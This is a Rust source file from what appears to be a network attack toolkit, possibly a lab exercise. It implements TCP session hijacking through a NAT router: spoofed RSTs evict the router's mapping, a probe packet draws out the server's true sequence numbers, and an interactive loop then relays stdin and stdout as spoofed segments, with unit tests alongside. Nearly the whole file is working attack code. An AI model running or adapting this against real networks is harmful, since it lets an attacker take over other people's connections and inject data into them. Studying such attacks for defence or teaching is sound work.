//! C7: connection eviction and interactive relay.
//!
//! Evicts the router's NAT mapping for a port, provokes the server into
//! revealing its true sequence numbers, then relays stdin/stdout through
//! spoofed segments carrying those numbers.

use crate::attacks::{random_low_half_u32, send_pkt, SendParams};
use crate::error::InterfaceError;
use crate::interface::PacketSocket;
use crate::packet::{Address, Packet};
use crate::topology::Topology;
use std::io::{self, Write};
use std::os::unix::io::RawFd;
use std::thread;
use std::time::Duration;
use tracing::{info, info_span, warn};

const RELAY_POLL_QUANTUM_MS: i32 = 10;
const RELAY_TAP_RECEIVE_TIMEOUT: Duration = Duration::from_millis(5);
const RELAY_READ_BUF_LEN: usize = 4096;

pub enum Outcome {
    EvictionFailed,
    RelayClosed,
}

/// Run the full hijack state machine: eviction, then the interactive
/// relay loop. `stdin_fd` is the descriptor polled alongside the tap
/// device; passed explicitly so tests can substitute a pipe.
pub fn run(
    interface: &dyn PacketSocket,
    topology: &Topology,
    port: u16,
    send_params: SendParams,
    timeout: Duration,
    router_timeout: Duration,
    stdin_fd: RawFd,
) -> Result<Outcome, InterfaceError> {
    let span = info_span!("hijack", port);
    let _guard = span.enter();

    let attacker_addr = Address::new(topology.attacker_ip, port);

    match evict_and_probe(interface, topology, port, send_params, timeout, router_timeout)? {
        Some((true_seqno, true_ackno)) => {
            info!(true_seqno, true_ackno, "eviction succeeded, entering relay");
            relay(
                interface,
                attacker_addr,
                topology.server_addr,
                true_seqno,
                true_ackno,
                stdin_fd,
            )
        }
        None => {
            warn!("eviction failed");
            eprintln!("eviction failed");
            Ok(Outcome::EvictionFailed)
        }
    }
}

/// Evict the router's mapping and provoke the server's true sequence
/// numbers. Returns `(true_seqno, true_ackno)` on success.
fn evict_and_probe(
    interface: &dyn PacketSocket,
    topology: &Topology,
    port: u16,
    send_params: SendParams,
    timeout: Duration,
    router_timeout: Duration,
) -> Result<Option<(u32, u32)>, InterfaceError> {
    let attacker_addr = Address::new(topology.attacker_ip, port);
    let router_addr = Address::new(topology.router_ip, port);

    let server_isn = random_low_half_u32();
    let attacker_isn = random_low_half_u32();
    let garbage_ack = random_low_half_u32();

    evict(interface, router_addr, server_isn, send_params)?;

    thread::sleep(router_timeout);

    send_pkt(
        interface,
        send_params,
        &Packet {
            src: attacker_addr,
            dst: topology.server_addr,
            seqno: attacker_isn,
            ackno: Some(garbage_ack),
            psh: true,
            ..Packet::default()
        },
    )?;

    let response = interface.receive(&|pkt: &Packet| !pkt.rst, timeout)?;
    Ok(response.map(|response| (response.ackno.unwrap_or(0), response.seqno)))
}

/// Emit the two spoofed RSTs that cover both halves of the sequence space.
fn evict(
    interface: &dyn PacketSocket,
    router_addr: Address,
    server_isn: u32,
    send_params: SendParams,
) -> Result<(), InterfaceError> {
    for seqno in [server_isn, server_isn.wrapping_add(1 << 31)] {
        send_pkt(
            interface,
            send_params,
            &Packet {
                dst: router_addr,
                seqno,
                rst: true,
                ..Packet::default()
            },
        )?;
    }
    Ok(())
}

/// Poll stdin and the tap device, relaying bytes each way until the
/// remote side sends a FIN.
fn relay(
    interface: &dyn PacketSocket,
    attacker_addr: Address,
    server_addr: Address,
    mut true_seqno: u32,
    mut true_ackno: u32,
    stdin_fd: RawFd,
) -> Result<Outcome, InterfaceError> {
    let mut buf = [0u8; RELAY_READ_BUF_LEN];

    loop {
        let mut pfd = libc::pollfd {
            fd: stdin_fd,
            events: libc::POLLIN,
            revents: 0,
        };
        let rc = unsafe { libc::poll(&mut pfd, 1, RELAY_POLL_QUANTUM_MS) };
        if rc < 0 {
            let err = io::Error::last_os_error();
            if err.kind() != io::ErrorKind::Interrupted {
                return Err(InterfaceError::Receive(err));
            }
        }

        if rc > 0 && pfd.revents & libc::POLLIN != 0 {
            let n = unsafe {
                libc::read(
                    stdin_fd,
                    buf.as_mut_ptr() as *mut libc::c_void,
                    buf.len(),
                )
            };
            if n > 0 {
                let n = n as usize;
                send_pkt(
                    interface,
                    SendParams {
                        redundancy: 1,
                        delay: Duration::from_millis(0),
                    },
                    &Packet {
                        src: attacker_addr,
                        dst: server_addr,
                        seqno: true_seqno,
                        ackno: Some(true_ackno),
                        psh: true,
                        data: buf[..n].to_vec(),
                        ..Packet::default()
                    },
                )?;
            }
        }

        let filter = |pkt: &Packet| pkt.dst.port == attacker_addr.port;
        if let Some(pkt) = interface.receive(&filter, RELAY_TAP_RECEIVE_TIMEOUT)? {
            true_seqno = pkt.ackno.unwrap_or(true_seqno);
            true_ackno = pkt.seqno;

            if pkt.fin {
                send_pkt(
                    interface,
                    SendParams {
                        redundancy: 1,
                        delay: Duration::from_millis(0),
                    },
                    &Packet {
                        src: attacker_addr,
                        dst: server_addr,
                        seqno: true_seqno,
                        ackno: Some(true_ackno),
                        fin: true,
                        ..Packet::default()
                    },
                )?;
                return Ok(Outcome::RelayClosed);
            } else if pkt.psh {
                let _ = io::stdout().write_all(&pkt.data);
                let _ = io::stdout().flush();
                send_pkt(
                    interface,
                    SendParams {
                        redundancy: 1,
                        delay: Duration::from_millis(0),
                    },
                    &Packet {
                        src: attacker_addr,
                        dst: server_addr,
                        seqno: true_seqno,
                        ackno: Some(true_ackno.wrapping_add(pkt.data.len() as u32)),
                        ..Packet::default()
                    },
                )?;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::RefCell;

    struct ScriptedSocket {
        sent: RefCell<Vec<Packet>>,
        responses: RefCell<Vec<Packet>>,
    }

    impl PacketSocket for ScriptedSocket {
        fn send(&self, packet: &Packet) -> Result<bool, InterfaceError> {
            self.sent.borrow_mut().push(packet.clone());
            Ok(true)
        }

        fn receive(
            &self,
            filter: &dyn Fn(&Packet) -> bool,
            _timeout: Duration,
        ) -> Result<Option<Packet>, InterfaceError> {
            let mut responses = self.responses.borrow_mut();
            if let Some(pos) = responses.iter().position(|p| filter(p)) {
                return Ok(Some(responses.remove(pos)));
            }
            Ok(None)
        }
    }

    fn topology() -> Topology {
        Topology {
            interface: "tun0".into(),
            server_addr: Address::new(0x0af48105, 2440),
            router_ip: 0x0af48104,
            attacker_ip: 0x0af40180,
            ttl_drop: 3,
        }
    }

    fn params() -> SendParams {
        SendParams {
            redundancy: 1,
            delay: Duration::from_millis(0),
        }
    }

    #[test]
    fn sends_two_rsts_covering_both_half_spaces() {
        let top = topology();
        let sent = RefCell::new(Vec::new());
        let socket = ScriptedSocket {
            sent,
            responses: RefCell::new(Vec::new()),
        };
        evict(
            &socket,
            Address::new(top.router_ip, 2222),
            1000,
            params(),
        )
        .unwrap();
        let sent = socket.sent.borrow();
        assert_eq!(sent.len(), 2);
        assert!(sent.iter().all(|p| p.rst));
        assert_eq!(sent[1].seqno, 1000u32.wrapping_add(1 << 31));
    }

    #[test]
    fn s3_eviction_failure_when_no_response_arrives() {
        let top = topology();
        let socket = ScriptedSocket {
            sent: RefCell::new(Vec::new()),
            responses: RefCell::new(Vec::new()),
        };
        let result = evict_and_probe(
            &socket,
            &top,
            2222,
            params(),
            Duration::from_millis(5),
            Duration::from_millis(0),
        )
        .unwrap();
        assert!(result.is_none());
    }

    #[test]
    fn s3_true_numbers_recovered_from_evict_response() {
        let top = topology();
        let reply = Packet {
            src: top.server_addr,
            dst: Address::new(top.attacker_ip, 2222),
            seqno: 0xAAAA0000,
            ackno: Some(0xBBBB0000),
            ..Packet::default()
        };
        let socket = ScriptedSocket {
            sent: RefCell::new(Vec::new()),
            responses: RefCell::new(vec![reply]),
        };
        let (true_seqno, true_ackno) = evict_and_probe(
            &socket,
            &top,
            2222,
            params(),
            Duration::from_millis(5),
            Duration::from_millis(0),
        )
        .unwrap()
        .unwrap();
        assert_eq!(true_ackno, 0xAAAA0000);
        assert_eq!(true_seqno, 0xBBBB0000);
        let sent = socket.sent.borrow();
        assert!(sent.iter().any(|p| p.psh && p.dst == top.server_addr));
    }
}
